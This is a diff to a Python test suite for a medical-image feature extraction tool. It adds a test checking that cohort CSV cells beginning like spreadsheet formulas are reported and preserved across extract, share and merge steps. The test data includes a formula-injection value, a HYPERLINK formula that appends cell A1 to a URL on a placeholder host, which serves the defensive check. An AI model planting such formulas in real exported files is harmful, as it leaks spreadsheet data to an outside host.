@@ -130,6 +130,29 @@ def looked_at(where):
            f"and of nothing else: {said.count(chr(39) + 's formula does')}")
 
 
+def formulas(where):
+    """Cells that a spreadsheet would compute are told once, by extract, by every share and by merge, and stay as they are."""
+    nifti.write(os.path.join(where, "i.nii"), "int16", SIZE, SPACING, image_voxels(0))
+    nifti.write(os.path.join(where, "m.nii"), "uint8", SIZE, SPACING, mask_voxels())
+    link = '=HYPERLINK("http://a.b/?"&A1,"open")'
+    rows = [{"ID": name, "Image": "i.nii", "Mask": "m.nii", "Note": note}
+            for name, note in (("plain", "-1.5"), ("second", "+1"), (link, "@SUM(A1)"), ("last", "-"))]
+    cohort = save(os.path.join(where, "c.csv"), rows)
+    said = f"c.csv: 2 cells begin as a spreadsheet's formula does, and the tables have them as written; the first: line 4, case {link}, column ID: {link}\n"
+    out, csv_file = os.path.join(where, "f.h5ad"), os.path.join(where, "f.csv")
+    done = run("extract", cohort, "--out", out, "--csv", csv_file)
+    expect(done.returncode == 0 and done.stderr.count("formula") == 1 and done.stderr.endswith(said), f"extract: {done.stderr}")
+    expect([(r["ID"], r["Note"]) for r in table(csv_file)] == [(r["ID"], r["Note"]) for r in rows], "as they were")
+    for share in ("1/2", "2/2"):
+        done = run("extract", cohort, "--out", os.path.join(where, "g.h5ad"), "--share", share)
+        expect(done.returncode == 0 and done.stderr.endswith(said), f"share {share}: {done.stderr}")
+    done = run("merge", os.path.join(where, "g.h5ad"), "--csv", os.path.join(where, "g.csv"))
+    expect(done.returncode == 0 and done.stderr.count("formula") == 1 and done.stderr.endswith(said), f"merge: {done.stderr}")
+    save(cohort, rows[:2])
+    done = run("extract", cohort, "--out", out, "--fresh")
+    expect(done.returncode == 0 and "formula" not in done.stderr, f"numbers are none: {done.stderr}")
+
+
 STUDY = """
 table: table.csv
 patient: "patient, \\"who\\""
@@ -208,7 +231,7 @@ def filtered(where):
 
 
 if __name__ == "__main__":
-    for test in (looked_at, sweep_and_score, filtered):
+    for test in (looked_at, formulas, sweep_and_score, filtered):
         with folder() as where:
             test(where)
     finish("names")
